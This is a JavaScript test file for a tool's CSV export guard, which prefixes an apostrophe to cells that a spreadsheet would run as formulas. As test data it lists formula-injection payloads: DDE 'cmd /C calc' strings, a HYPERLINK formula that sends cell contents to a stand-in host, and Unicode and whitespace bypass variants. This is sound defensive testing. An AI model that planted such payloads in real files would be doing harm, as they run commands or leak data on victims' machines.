// Exports are opened in spreadsheets, and logs hold what strangers wrote: nothing that is exported is run there, and
// bethscope reads it back as the same rows.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { guarded } from "../../www/page/guard.js";
import { choose, exported, fileRow, scored, settled, usePretrained } from "./page.js";
import { openSite } from "./site.js";

/** @type {Awaited<ReturnType<typeof openSite>>} */
let site;
before(async () => {
    site = await openSite();
});
after(() => site.close());

/** Cells that a spreadsheet shows as they are. */
const SHOWN = [
    ...[
        "",
        "-115",
        "-1.5",
        "-2e-7",
        "-1,234",
        "-4 026 531 840",
        " -115",
        "0",
        "381",
        "4.02653184E9",
        "(115)",
        "115-",
        "−115",
    ],
    ...[
        "sshd",
        "a=b",
        "it's",
        "'=1+1",
        "[{'name': 'fd'}]",
        "/usr/bin/[",
        "a-b",
        "user@host",
        "1+1",
        "a;b",
        "1;-2;-3.5e-7",
        "a,=b",
        "✓",
        "́-1",
    ],
];

/** Cells that it would run, and what becomes of them. @type {[string, string][]} */
const RUN = [
    ["=1+1", "'=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x.example/?"&A1,"see")', `'=HYPERLINK("http://x.example/?"&A1,"see")`],
    ["+1", "'+1"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-", "'-"],
    ["-rf", "'-rf"],
    ["-1+1", "'-1+1"],
    ["-1-cmd|' /C calc'!A0", "'-1-cmd|' /C calc'!A0"],
    ["@SUM(1+1)", "'@SUM(1+1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\t-115", "'\t-115"],
    ["\rabc", "'\rabc"],
    ["\nabc", "'\nabc"],
    ["  =1+1", "'  =1+1"],
    ["\u0000=1+1", "'\u0000=1+1"],
    ["\u200b=1+1", "'\u200b=1+1"],
    ["＝1+1", "'＝1+1"],
    ["＋1", "'＋1"],
    ["－1+1", "'－1+1"],
    ["＠SUM(1)", "'＠SUM(1)"],
    ['="a"&"b"', `'="a"&"b"`],
    ['="a""b"', `'="a""b"`],
    // What other programs write so that it stays a text: what it gives, guarded where that would run.
    ['="-115"', "-115"],
    ["=-115", "-115"],
    [' = "TRUE" ', "TRUE"],
    ['="=1+1"', "'=1+1"],
    ["=+1", "'+1"],
    // Where commas are for decimals, Excel parts a line at these, and quotes hold nothing together.
    ["x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"],
    ["x; +1;@y;-rf;-1+1", "x; '+1;'@y;'-rf;'-1+1"],
    ["x\r\n=1+1", "x\r\n'=1+1"],
];

test("a cell that a spreadsheet would run begins with an apostrophe, and no other is touched", () => {
    assert.deepEqual(SHOWN.map(guarded), SHOWN);
    assert.deepEqual(
        RUN.map(([cell]) => guarded(cell)),
        RUN.map(([, shown]) => shown),
    );
    for (const cell of [...SHOWN, ...RUN.map(([cell]) => cell)]) {
        assert.equal(guarded(guarded(cell)), guarded(cell), "and once only");
    }
});

/** A cell of CSV. @param {string} cell */
const quoted = (cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

const FEATURES = "processId,threadId,parentProcessId,userId,mountNamespace,argsNum,returnValue";
/** What other programs make of -115, +5 and 1, as the reader knows them, and what is exported. @type {[string, string][]} */
const VALUES = [
    ["-115", "-115"],
    ['="-115"', "-115"],
    ["=-115", "-115"],
    ["'-115", "'-115"],
    ["\t-115", "'\t-115"],
    ["-115.0", "-115.0"],
    ["+5", "'+5"],
    ['="+5"', "'+5"],
    ["(115)", "(115)"],
    ["−115", "−115"],
];

test("an export runs nothing, says what it changed, and is read back as the same rows", {
    timeout: 600_000,
}, async (t) => {
    // A NUL makes a file no text.
    const strange = RUN.filter(([cell]) => !cell.includes("\0"));
    const header = `${FEATURES},sus_label,=note()`;
    const records = strange.map(([note], at) => {
        const [value] = VALUES[at % VALUES.length];
        const label = ["0", '="0"', "1", "=1"][at % 4];
        return ["7555", "7555", "7548", "1001", "4026531840", String(at), value, label, note].map(quoted).join(",");
    });
    const page = await site.page(t);
    await choose(page, {
        name: "strange.csv",
        mimeType: "text/csv",
        buffer: Buffer.from([header, ...records, ""].join("\r\n")),
    });
    const facts = (await (await settled(page, "strange.csv")).locator("td.number").allInnerTexts()).join(" ");
    assert.match(facts, /^30 30 46\.7/);
    await usePretrained(page);

    const text = await exported(page);
    const scores = text.match(/^\d+,\d+,([\d.e-]+),/gm) ?? [];
    assert.equal(scores.length, 30);
    const wanted = strange.map(([, note], at) => {
        const [, value] = VALUES[at % VALUES.length];
        const label = ["0", "0", "1", "1"][at % 4];
        const own = ["7555", "7555", "7548", "1001", "4026531840", String(at), value, label, note];
        return scores[at] + [label, ...own].map(quoted).join(",");
    });
    assert.equal(text, [`row,line,score,label,${FEATURES},sus_label,'=note()`, ...wanted, ""].join("\r\n"));
    const state = await page.locator("#export-state").innerText();
    assert.match(
        state.replaceAll("\u00a0", " "),
        /^30 rows exported\. 37 cells that a spreadsheet would run as formulas are guarded by an apostrophe; bethscope reads them as before\.$/,
    );

    await page.getByRole("button", { name: "Remove" }).click();
    await choose(page, { name: "again.csv", mimeType: "text/csv", buffer: Buffer.from(text) });
    await settled(page, "again.csv");
    assert.equal((await fileRow(page, "again.csv").locator("td.number").allInnerTexts()).join(" "), facts);
    await scored(page);
    const again = (await exported(page)).match(/^\d+,\d+,([\d.e-]+),/gm);
    assert.deepEqual(
        again?.map((line) => line.split(",")[2]),
        scores.map((line) => line.split(",")[2]),
    );
});
